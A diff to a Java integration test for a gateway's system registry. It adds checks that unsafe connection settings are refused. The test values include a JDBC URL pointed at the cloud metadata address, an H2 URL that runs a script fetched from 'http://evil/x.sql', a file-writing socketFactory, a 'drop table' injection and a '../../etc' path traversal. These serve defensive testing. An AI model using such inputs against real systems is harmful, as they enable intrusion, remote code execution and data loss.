@@ -73,6 +73,8 @@ class RegistryIT {
         registry.add("gateway.mappings-dir", mappings::toString);
         registry.add("camel.component.kamelet.location", () -> "file:" + Paths.get("routes/kamelets").toAbsolutePath());
         registry.add("gateway.registry.min-schedule-ms", () -> "1000");
+        // the legacy servers of this test run on this machine: loopback must be allowed explicitly
+        registry.add("gateway.registry.outbound-allow[0]", () -> "127.0.0.1");
         ftpPort = GatewayTestSupport.freePort();
         startFtp();
     }
@@ -235,6 +237,66 @@ class RegistryIT {
     }
 
     @Test
+    void unsafeTargetsAndSettingsAreRefusedWithTheSettingNamed() throws Exception {
+        String admin = GatewayTestSupport.adminToken(port);
+        Map<String, String> refused = Map.of(
+                "jdbc:postgresql://169.254.169.254:5432/test", "jdbcUrl",
+                "jdbc:postgresql://127.0.0.2:5432/test", "jdbcUrl",
+                "jdbc:mariadb://127.0.0.1:3306/test?allowLoadLocalInfile=true", "allowLoadLocalInfile",
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbcUrl",
+                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=java.io.FileOutputStream", "socketFactory");
+        for (Map.Entry<String, String> bad : refused.entrySet()) {
+            HttpResponse<String> r = call(admin, "POST", "/api/v1/systems", sqlSystem("reg-bad-" + RUN, "dinkes-" + RUN,
+                    bad.getKey(), "postgres", "", "izin"));
+            assertThat(r.statusCode()).as(bad.getKey()).isEqualTo(400);
+            assertThat(r.body()).as(bad.getKey()).contains(bad.getValue());
+        }
+        HttpResponse<String> injection = call(admin, "POST", "/api/v1/systems", sqlSystem("reg-bad-" + RUN,
+                "dinkes-" + RUN, LegacyDatabases.POSTGRES, "postgres", "", "izin; drop table izin"));
+        assertThat(injection.statusCode()).isEqualTo(400);
+        assertThat(injection.body()).contains("table");
+        HttpResponse<String> escape = call(admin, "POST", "/api/v1/systems", Map.of("id", "reg-bad-" + RUN,
+                "opdCode", "dinkes-" + RUN, "kind", "FTP", "settings", Map.of("host", "127.0.0.1", "path", "../../etc",
+                        "username", "opd")));
+        assertThat(escape.statusCode()).isEqualTo(400);
+        assertThat(escape.body()).contains("path");
+        assertThat(call(admin, "GET", "/api/v1/systems/reg-bad-" + RUN, null).statusCode()).isEqualTo(404);
+
+        // an operator allows one more host: the same registration now passes
+        String other = "jdbc:postgresql://127.0.0.2:5432/test";
+        assertThat(call(admin, "POST", "/api/v1/outbound-allowlist", Map.of("entry", "127.0.0.2", "note", "IT"))
+                .statusCode()).isEqualTo(201);
+        assertThat(call(admin, "POST", "/api/v1/systems", sqlSystem("reg-other-" + RUN, "dinkes-" + RUN, other,
+                "postgres", "", "izin")).statusCode()).isEqualTo(201);
+        assertThat(call(admin, "POST", "/api/v1/outbound-allowlist", Map.of("entry", "not a host!"))
+                .statusCode()).isEqualTo(400);
+    }
+
+    @Test
+    void testConnectionGivesAVerdictBeforeAndAfterRegistering() throws Exception {
+        String table = "reg_conn_" + RUN;
+        try (Connection c = LegacyDatabases.connect(LegacyDatabases.MARIADB, "root")) {
+            createTable(c, table);
+        }
+        String staff = GatewayTestSupport.token(port, "staff-dinkes-" + RUN, PASSWORD);
+        Map<String, Object> settings = sqlSystem("reg-conn-" + RUN, null, LegacyDatabases.MARIADB, "root", "", table);
+        JsonNode ok = JSON.readTree(call(staff, "POST", "/api/v1/systems/test-connection", settings).body());
+        assertThat(ok.path("ok").asBoolean()).as(ok.toString()).isTrue();
+        JsonNode missing = JSON.readTree(call(staff, "POST", "/api/v1/systems/test-connection",
+                sqlSystem("x", null, LegacyDatabases.MARIADB, "root", "", table + "_renamed")).body());
+        assertThat(missing.path("code").asText()).isEqualTo("TABLE_MISSING");
+        assertThat(missing.path("message").asText()).contains(table + "_renamed");
+
+        assertThat(call(staff, "POST", "/api/v1/systems", settings).statusCode()).isEqualTo(201);
+        JsonNode registered = JSON.readTree(call(staff, "POST", "/api/v1/systems/reg-conn-" + RUN + "/test-connection",
+                null).body());
+        assertThat(registered.path("code").asText()).as(registered.toString()).isEqualTo("OK");
+        String dishub = GatewayTestSupport.token(port, "staff-dishub-" + RUN, PASSWORD);
+        assertThat(call(dishub, "POST", "/api/v1/systems/reg-conn-" + RUN + "/test-connection", null).statusCode())
+                .isEqualTo(404);
+    }
+
+    @Test
     void everyRoleGetsItsAreaAndNothingElse() throws Exception {
         Map<String, String> tokens = Map.of(
                 "OPERATOR", GatewayTestSupport.adminToken(port),
@@ -250,6 +312,10 @@ class RegistryIT {
                 new Rule("POST", "/api/v1/systems/none/resume", List.of("OPERATOR")),
                 new Rule("POST", "/api/v1/systems/none/retire", List.of("OPERATOR")),
                 new Rule("GET", "/api/v1/users", List.of("OPERATOR")),
+                new Rule("GET", "/api/v1/outbound-allowlist", List.of("OPERATOR")),
+                new Rule("POST", "/api/v1/admin/secrets/rotate", List.of("OPERATOR")),
+                new Rule("POST", "/api/v1/systems/test-connection", List.of("OPERATOR", "OPD_STAFF")),
+                new Rule("GET", "/v3/api-docs", List.of("OPERATOR", "INTEGRATOR", "OPD_STAFF", "anonymous")),
                 new Rule("POST", "/api/v1/users", List.of("OPERATOR")),
                 new Rule("GET", "/api/v1/rejects", List.of("OPERATOR", "OPD_STAFF")),
                 new Rule("GET", "/api/v1/templates", List.of("OPERATOR", "INTEGRATOR")),
@@ -272,10 +338,14 @@ class RegistryIT {
 
     private static Map<String, Object> sqlSystem(String id, String opd, String url, String user, String password,
                                                  String table) {
-        return Map.of("id", id, "opdCode", opd, "kind", "SQL", "name", "SIMPEL " + id, "scheduleMs", 1000,
-                "settings", Map.of("jdbcUrl", url, "username", user, "table", table, "watermarkColumn", "updated_at",
+        Map<String, Object> system = new java.util.HashMap<>(Map.of("id", id, "kind", "SQL", "name", "SIMPEL " + id,
+                "scheduleMs", 1000, "settings", Map.of("jdbcUrl", url, "username", user, "table", table, "watermarkColumn", "updated_at",
                         "keyColumn", "row_id"),
-                "secrets", Map.of("password", password));
+                "secrets", Map.of("password", password)));
+        if (opd != null) {
+            system.put("opdCode", opd);
+        }
+        return system;
     }
 
     private static void createTable(Connection c, String table) throws Exception {
